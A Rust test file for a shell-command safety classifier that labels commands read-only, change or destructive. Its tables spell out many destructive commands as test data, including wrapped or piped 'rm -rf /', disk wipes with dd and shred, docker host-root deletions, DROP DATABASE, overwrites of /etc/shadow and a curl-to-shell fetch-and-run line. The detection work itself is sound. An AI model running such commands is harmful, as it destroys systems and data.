//! Destructive detection unwraps and normalizes (issue 9, part 2, and part 8's SQL false
//! positive): runner option grammars and abbreviations, runners that were never unwrapped,
//! payloads on standard input, lexical path normalization, remote-command forms, and SQL
//! keywords inside literals or comments. Rows marked `S` ("stays") already had this class
//! before the change; every other row failed on the branch point.

use opsassist::policy::{Class, approval_prefix, classify};

const R: Class = Class::ReadOnly;
const C: Class = Class::Change;
const D: Class = Class::Destructive;

/// A row that must fail on the old code.
const N: bool = true;
/// A "stays as is" row: the old code already gave this class.
const S: bool = false;

type Row = (&'static str, Class, bool);

const WRAPPER_OPTIONS: &[Row] = &[
    ("sudo --us root rm -rf /srv/x", D, N),
    ("sudo --ch /tmp rm -rf /srv/x", D, N),
    ("sudo --gr wheel rm -rf /srv/x", D, N),
    ("sudo --command-timeout 5 rm -rf /srv/x", D, N),
    ("sudo --other root reboot", D, N),
    ("sudo -uroot rm -rf /srv/x", D, S),
    ("sudo -E -u root rm -rf /srv/x", D, S),
    ("sudo -iu root rm -rf /srv/x", D, S),
    ("sudo --preserve-env=PATH rm -rf /srv/x", D, S),
    ("sudo --us root ls", C, S),
    ("doas -a style rm -rf /srv/x", D, N),
    ("doas -u root rm -rf /srv/x", D, S),
    ("timeout --sig KILL 5 rm -rf /srv/x", D, N),
    ("timeout --si KILL 5 reboot", D, N),
    ("timeout --kill-a 3 5 rm -rf /srv/x", D, N),
    ("timeout -sKILL 5 rm -rf /srv/x", D, S),
    ("timeout -k 3 5 rm -rf /srv/x", D, S),
    ("timeout --sig KILL 5 uptime", R, N),
    ("xargs --replace rm -rf {}", D, N),
    ("xargs --eof rm -rf", D, N),
    ("xargs --null --max-p 4 rm -rf", D, N),
    ("xargs --arg list.txt rm -rf", D, N),
    ("xargs -I{} rm -rf {}", D, S),
    ("xargs -i rm -rf {}", D, S),
    ("env --uns X rm -rf /srv/x", D, N),
    ("env --ch /tmp rm -rf x", D, N),
    ("env -S 'rm -rf /'", D, N),
    ("env --split-string='reboot'", D, N),
    ("env -i rm -rf /srv/x", D, S),
    ("env - rm -rf /srv/x", D, N),
    ("nice --adj 5 rm -rf /srv/x", D, N),
    ("nice --adj 5 du -sh /var", R, N),
    ("nice -n5 rm -rf /srv/x", D, S),
    ("nice -10 rm -rf /srv/x", D, S),
    ("ionice --cl 3 rm -rf /srv/x", D, N),
    ("ionice -c 3 rm -rf /srv/x", D, S),
    ("stdbuf --out L rm -rf /srv/x", D, N),
    ("stdbuf --out L tail /var/log/syslog", R, N),
    ("stdbuf -o L rm -rf /srv/x", D, S),
    ("time -ao /tmp/t ls", C, N),
    ("time --form '%e' rm -rf /srv/x", D, N),
    ("time -f %e ls", R, S),
    ("watch --int 5 rm -rf /srv/x", D, N),
    ("watch -n 5 rm -rf /srv/x", D, S),
    ("watch -x rm -rf /srv/x", D, S),
    ("bash +o history -c 'rm -rf /srv/x'", D, N),
    ("fish -c 'rm -rf /srv/x'", D, N),
    ("bash -lc 'rm -rf /srv/x'", D, S),
    ("sh -ec 'reboot'", D, S),
    ("bash -o pipefail -c 'rm -rf /srv/x'", D, S),
    ("bash --rcfile /tmp/r -c 'rm -rf /srv/x'", D, S),
    ("zsh -fc reboot", D, S),
    ("su --comm='rm -rf /srv/x' root", D, N),
    ("su --session-command='rm -rf /srv/x'", D, N),
    ("su -lc 'rm -rf /srv/x' root", D, S),
    ("su - postgres -c 'dropdb prod'", D, S),
    // Options the runner's grammar does not know: at least change, never read-only.
    ("timeout --zz 5 uptime", C, N),
    ("nice --frob du -sh /var", C, N),
    ("stdbuf --frob tail /var/log/syslog", C, N),
    ("time --frob ls", C, N),
    ("command --frob ls", C, N),
    ("env --frob ls", C, S),
];

const RUNNERS: &[Row] = &[
    ("chroot /mnt rm -rf /srv/x", D, N),
    ("chroot --userspec=1:1 /srv/root rm -rf /data", D, N),
    ("chroot --skip /mnt /bin/rm -rf /var", D, N),
    ("chroot /srv/root ls", C, S),
    ("nsenter -t 1 -m -u -n -i rm -rf /srv/x", D, N),
    ("nsenter --target 1 --mount rm -rf /var/lib/x", D, N),
    ("nsenter -a -t1 reboot", D, N),
    ("unshare -r rm -rf /srv/x", D, N),
    ("unshare --mount-proc -f -p shred -u f", D, N),
    ("setsid -f rm -rf /srv/x", D, N),
    ("setsid reboot", D, N),
    ("flock /tmp/l rm -rf /srv/x", D, N),
    ("flock -n /tmp/l -c 'rm -rf /srv/x'", D, N),
    ("flock -w 5 /tmp/l reboot", D, N),
    ("flock --timeout 5 /tmp/lock -c 'ls'", C, S),
    ("script -qc 'rm -rf /srv/x' /dev/null", D, N),
    ("script -c reboot", D, N),
    ("script --command='rm -rf /srv/x'", D, N),
    ("script -q /dev/null", C, S),
    ("runuser -u postgres -- rm -rf /var/lib/pg", D, N),
    ("runuser -l postgres -c 'dropdb prod'", D, N),
    ("sg docker -c 'rm -rf /srv/x'", D, N),
    ("sg wheel reboot", D, N),
    ("ip netns exec blue rm -rf /srv/x", D, N),
    ("ip -all netns exec reboot", D, N),
    ("ip net e blue reboot", D, N),
    ("eval 'rm -rf /srv/x'", D, N),
    ("eval rm -rf /srv/x", D, N),
    ("eval \"ls; reboot\"", D, N),
    ("eval ls", C, S),
    ("coproc rm -rf /srv/x", D, N),
    ("coproc reboot", D, N),
    ("coproc NAME { rm -rf /srv/x; }", D, N),
    ("builtin eval 'rm -rf /srv/x'", D, N),
    ("builtin exec reboot", D, N),
    ("parallel rm -rf ::: /srv/x /srv/y", D, N),
    ("parallel -j4 'rm -rf {}' ::: a b", D, N),
    ("parallel ::: 'rm -rf /srv/x' ls", D, N),
    ("parallel --jobs 4 echo ::: a b", C, S),
    ("busybox rm -rf /srv/x", D, S),
    ("exec -a foo rm -rf /srv/x", D, S),
    ("command -p rm -rf /srv/x", D, S),
    ("pkexec rm -rf /srv/x", D, N),
    ("pkexec --user root reboot", D, N),
    ("run0 -u root rm -rf /srv/x", D, N),
    ("systemd-run --uid=0 -p X=1 rm -rf /srv/x", D, N),
    ("systemd-run --on-active=30 reboot", D, N),
    ("cgexec -g cpu:grp rm -rf /srv/x", D, N),
    ("chrt -f 99 rm -rf /srv/x", D, N),
    ("taskset -c 0 rm -rf /srv/x", D, N),
    ("taskset 0x1 uptime", R, N),
    ("numactl --cpunodebind=0 rm -rf /srv/x", D, N),
    ("strace -f -e trace=file rm -rf /srv/x", D, N),
    ("strace -o /tmp/t ls", C, S),
    ("ltrace -o /tmp/t rm -rf /srv/x", D, N),
    ("sshpass -p secret ssh web01 'rm -rf /srv/x'", D, N),
    ("fakeroot rm -rf /srv/x", D, N),
    ("unbuffer -p rm -rf /srv/x", D, N),
    ("pkexec ls", C, S),
];

const STDIN: &[Row] = &[
    ("echo 'rm -rf /srv' | sh", D, N),
    ("printf 'rm -rf /\\n' | bash", D, N),
    ("bash -s <<EOF\nrm -rf /\nEOF", D, N),
    ("sh <<< 'rm -rf /'", D, N),
    ("echo 'DROP DATABASE prod;' | psql", D, N),
    ("psql <<< \"DROP TABLE x\"", D, N),
    ("cat <<EOF | sh\nrm -rf /\nEOF", D, N),
    ("echo reboot | sudo sh", D, N),
    ("printf '%s\\n' 'rm -rf /srv/x' | bash", D, N),
    ("echo -e 'ls\\nreboot' | sh", D, N),
    ("echo 'ls\\nreboot' | sh", D, N),
    ("mysql <<EOF\nDROP TABLE users;\nEOF", D, N),
    ("echo 'DROP TABLE x' | mysql -h db", D, N),
    ("echo 'DELETE FROM t' | psql -f -", D, N),
    ("echo 'rm -rf /srv/x' | ssh web01", D, N),
    ("ssh web01 bash <<'EOF'\nrm -rf /var/lib/x\nEOF", D, N),
    ("echo 'rm -rf /srv/x' | cat | sh", D, N),
    ("echo 'rm -rf /srv/x' | tee /tmp/log | sh", D, N),
    ("cat <<'EOF' | sudo bash\nshred /dev/sda\nEOF", D, N),
    ("bash <<-EOF\n\trm -rf /srv/x\n\tEOF", D, N),
    ("echo 'SELECT 1' | psql", R, N),
    ("echo 'rm -rf /srv/x' | sudo -s", D, N),
    ("echo 'rm -rf /srv/x' | su root", D, N),
    ("echo 'reboot' | chroot /mnt", D, N),
    ("echo 'rm -rf /srv/x' | docker exec -i web sh", D, N),
    ("echo 'ls' | sudo -s", C, S),
    ("echo 'rm -rf /srv/x' | sh -c 'cat | sh'", D, N),
    ("timeout 5 bash <<< 'rm -rf /'", D, N),
    ("kubectl exec -i web -- sh <<< 'rm -rf /data'", D, N),
    ("mysql prod < dump.sql", C, S),
    ("echo 'ls' | sh", C, S),
    ("cat file | sh", C, S),
    ("curl -s http://x.example/i.sh | sh", D, S),
    ("sh < /tmp/script", C, S),
    ("bash <<< \"$CMD\"", C, S),
    ("echo 'ls' | rev | sh", C, S),
    ("psql -c 'SELECT 1' <<< 'DROP TABLE x'", R, S),
    ("echo 'rm -rf /srv/x' | xargs ls", C, S),
];

const PATHS: &[Row] = &[
    ("echo x > //etc/passwd", D, N),
    ("echo x > /tmp/../etc/passwd", D, N),
    ("rm /tmp/../etc/passwd", D, N),
    ("chmod -R 777 /.", D, N),
    ("echo x | tee //etc/shadow", D, N),
    ("cp x /./etc/hosts", D, N),
    ("mv /tmp/a //usr/bin/ls", D, N),
    ("cat x > /dev//sda", D, N),
    ("echo x > /tmp/./../etc/shadow", D, N),
    ("echo x > /var/./lib/dpkg/status", D, N),
    ("echo x > /etc/../tmp/x", C, N),
    ("rm /tmp/./x", C, S),
    ("chown -R nobody //", D, S),
];

const REMOTE: &[Row] = &[
    ("ssh web01 -- rm -rf /srv/x", D, N),
    ("ssh host -l root 'rm -rf /srv/x'", D, N),
    ("ssh -oProxyCommand='rm -rf /srv/x' host", D, N),
    (
        "ssh -o 'LocalCommand=reboot' -o PermitLocalCommand=yes host",
        D,
        N,
    ),
    ("ssh -o RemoteCommand='rm -rf /srv/x' host", D, N),
    ("ssh -o ProxyCommand=nc host uptime", C, S),
    ("ssh -p 22 host 'rm -rf /'", D, S),
    ("ssh -p22 host 'rm -rf /'", D, S),
    ("ssh -tt host sudo reboot", D, S),
    ("kubectl -v 6 delete ns prod", D, N),
    ("kubectl --profile-output get delete ns prod", D, N),
    ("kubectl --log-file /tmp/x delete ns a", D, N),
    ("kubectl --tls-server-name x delete ns a", D, N),
    ("kubectl --unknown-flag get delete ns prod", D, N),
    ("kubectl exec web rm -rf /data", D, N),
    ("kubectl --context prod delete ns web", D, S),
    ("kubectl --v=6 delete ns prod", D, S),
    ("kubectl exec web -- sh -c 'rm -rf /data'", D, S),
    ("kubectl --cache-dir /tmp get pods", R, S),
    ("docker run -v /:/host busybox rm -rf /host/etc", D, N),
    (
        "docker run --rm -v /etc:/x alpine sh -c 'rm -rf /x/*'",
        D,
        N,
    ),
    (
        "docker run --privileged alpine dd if=/dev/zero of=/dev/sda",
        D,
        N,
    ),
    (
        "docker run --mount type=bind,source=/,target=/h alpine rm -rf /h/boot",
        D,
        N,
    ),
    ("docker run --pid=host alpine kill -9 1", D, N),
    (
        "docker run -it --entrypoint rm -v /:/h alpine -rf /h/etc",
        D,
        N,
    ),
    ("podman run -v /:/host fedora rm -rf /host/var", D, N),
    ("nerdctl run -v /var/lib:/v alpine rm -rf /v", D, N),
    ("docker container run -v /:/h alpine rm -rf /h", D, N),
    ("docker compose exec db dropdb prod", D, N),
    ("docker exec --workd /tmp web rm -rf /srv/x", D, N),
    ("docker run --rm alpine rm -rf /", C, S),
    ("docker run -v /:/host alpine ls /host", C, S),
    ("docker exec -u root web rm -rf /data", D, S),
    ("docker exec --privileged web rm -rf /srv/x", D, S),
];

const SQL: &[Row] = &[
    ("psql -c \"SELECT * FROM audit WHERE op = 'DELETE'\"", R, N),
    ("psql -c 'SELECT 1 -- DROP TABLE x'", R, N),
    ("psql -c 'SELECT 1 /* TRUNCATE t */'", R, N),
    ("psql -c 'SELECT \"delete\" FROM t'", R, N),
    ("psql -c 'SELECT $$DROP TABLE x$$'", R, N),
    ("psql -c \"SELECT * FROM t WHERE note = 'TRUNCATE'\"", R, N),
    (
        "mysql -e \"SELECT * FROM log WHERE msg LIKE '%DROP%'\"",
        R,
        N,
    ),
    ("mysql -e 'SELECT 1 # DELETE'", R, N),
    ("psql -c \"SELECT 'unterminated\"", C, N),
    ("psql -c 'COMMENT ON TABLE x IS $$drop$$'", C, N),
    ("psql --out=/tmp/o -c 'SELECT 1'", C, N),
    ("psql --log=/tmp/l -c 'SELECT 1'", C, N),
    ("psql --comm='DROP TABLE x'", D, N),
    ("psql -c 'SELECT 1 \\g /tmp/out'", C, N),
    ("mysql --init-command='DROP TABLE x' -e 'SELECT 1'", D, N),
    ("mysql --pager='less' -e 'SELECT 1'", C, N),
    ("psql -v t='DROP TABLE x' -f - <<< 'SELECT 1; :t'", D, N),
    ("psql -c \"SELECT 'x'; DROP TABLE t\"", D, S),
    ("psql -c 'DELETE FROM x'", D, S),
    ("mysql -e 'SELECT 1 /*! DROP TABLE x */'", D, S),
    ("psql -c 'DO $$ BEGIN DROP TABLE x; END $$'", D, S),
    ("psql -o /tmp/out -c 'SELECT 1'", C, S),
    ("psql -c '\\o /tmp/x'", C, S),
    ("mysql -e 'SHOW PROCESSLIST\\G'", R, S),
    ("psql -v t=users -c 'SELECT 1'", R, S),
    ("psql -c 'SELECT pg_terminate_backend(1)'", C, S),
    ("psql -c '\\! rm -rf /'", D, S),
];

const GROUPS: &[(&str, &[Row])] = &[
    ("wrapper options and abbreviations", WRAPPER_OPTIONS),
    ("runners never unwrapped", RUNNERS),
    ("payloads on standard input", STDIN),
    ("path normalisation", PATHS),
    ("remote-command forms", REMOTE),
    ("SQL literals and comments", SQL),
];

#[test]
fn unwrap_table() {
    let mut failures = Vec::new();
    let mut total = 0;
    for (group, rows) in GROUPS {
        let new = rows.iter().filter(|r| r.2).count();
        assert!(new >= 6, "{group}: only {new} new rows");
        for (command, want, _) in *rows {
            total += 1;
            let got = classify(command);
            assert!(!got.reason.is_empty(), "empty reason for {command:?}");
            if got.class != *want {
                failures.push(format!(
                    "  [{group}] {command:?}: want {}, got {} ({})",
                    want.as_str(),
                    got.class.as_str(),
                    got.reason
                ));
            }
            if got.class == D {
                assert_eq!(approval_prefix(command), None, "{command:?} has a prefix");
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {total} rows mismatch:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Run the table against an older build: `UNWRAP_OLD=1` counts the rows whose class differs
/// (every `N` row should, no `S` row should).
#[test]
fn rows_marked_new_differ_from_old_code() {
    if std::env::var_os("UNWRAP_OLD").is_none() {
        return;
    }
    let mut differ = 0;
    let mut new_rows = 0;
    let mut report = Vec::new();
    for (group, rows) in GROUPS {
        for (command, want, is_new) in *rows {
            let got = classify(command).class;
            new_rows += usize::from(*is_new);
            if got != *want {
                differ += 1;
            }
            if (got != *want) != *is_new {
                report.push(format!(
                    "  [{group}] {command:?} marked {} but old gives {}",
                    if *is_new { "new" } else { "stays" },
                    got.as_str()
                ));
            }
        }
    }
    eprintln!("{differ} rows differ on this build; {new_rows} rows are marked new");
    assert!(report.is_empty(), "markings wrong:\n{}", report.join("\n"));
}

const RUNNER_WORDS: &[&str] = &[
    "sudo", "doas", "timeout", "xargs", "env", "nice", "ionice", "stdbuf", "nohup", "time",
    "chroot", "nsenter", "unshare", "setsid", "flock", "script", "runuser", "su", "sg", "busybox",
    "eval", "coproc", "exec", "command", "builtin", "watch", "parallel", "sh", "bash", "ssh",
    "kubectl", "docker", "podman", "psql", "mysql", "ip",
];

const PIECES: &[&str] = &[
    "-",
    "--",
    "-c",
    "-u",
    "-uroot",
    "--us",
    "--sig",
    "-s",
    "-o",
    "-oProxyCommand=x",
    "-v",
    "-n",
    "5",
    "root",
    "rm",
    "-rf",
    "/",
    "{}",
    ":::",
    "exec",
    "run",
    "delete",
    "netns",
    "e",
    "'",
    "\"",
    "<<<",
    "<<EOF",
    "|",
    "$$",
    "\\",
    ";",
    "-e",
    "DROP",
    "--",
    "-i",
    "-it",
    "/:/h",
    "--entrypoint",
    "-lc",
    "+o",
    "'rm -rf /'",
    "\\!",
    "--command=",
    "-C",
    "-a",
];

proptest::proptest! {
    #[test]
    fn runner_forms_never_panic(
        runner in proptest::sample::select(RUNNER_WORDS),
        words in proptest::collection::vec(proptest::sample::select(PIECES), 0..10),
        tail in "[ -~\\n]{0,30}",
        pipe_in in proptest::bool::ANY,
    ) {
        let mut command = format!("{runner} {} {tail}", words.join(" "));
        if pipe_in {
            command = format!("echo '{tail}' | {command}");
        }
        let got = classify(&command);
        proptest::prop_assert!(!got.reason.is_empty());
        if got.class == D {
            proptest::prop_assert_eq!(approval_prefix(&command), None);
        }
    }

    #[test]
    fn arbitrary_sql_never_panics(sql in "[ -~\\n]{0,60}", client in proptest::sample::select(&["psql", "mysql"][..])) {
        let quoted = sql.replace('\'', "'\\''");
        let got = classify(&format!("{client} -c '{quoted}'"));
        proptest::prop_assert!(!got.reason.is_empty());
        let got = classify(&format!("{client} <<'EOF'\n{sql}\nEOF"));
        proptest::prop_assert!(!got.reason.is_empty());
    }
}

#[test]
fn hostile_runner_nesting_is_bounded() {
    let started = std::time::Instant::now();
    let cases = [
        format!("{}rm -rf /srv/x", "sudo --zz a ".repeat(3000)),
        format!("{}ls", "watch --zz a ".repeat(3000)),
        format!("{}ls", "eval eval ".repeat(3000)),
        format!("{}ls", "parallel --zz a ".repeat(2000)),
        format!("{}ls", "timeout --zz 5 ".repeat(3000)),
        format!("echo '{}' | sh", "sh -c 'ls'; ".repeat(3000)),
        format!("psql -c '{}'", "SELECT 1; ".repeat(10000)),
        format!("ssh {}h ls", "-o ProxyCommand=ls ".repeat(3000)),
    ];
    for command in &cases {
        let t = std::time::Instant::now();
        let got = classify(command);
        eprintln!(
            "{:?} {} {}",
            t.elapsed(),
            &command[..30],
            got.class.as_str()
        );
        assert!(
            !command.starts_with("sudo") || got.class == D,
            "{}",
            got.reason
        );
        assert!(
            t.elapsed().as_secs() < 10,
            "{} took {:?}",
            &command[..40],
            t.elapsed()
        );
    }
    assert!(started.elapsed().as_secs() < 40);
}
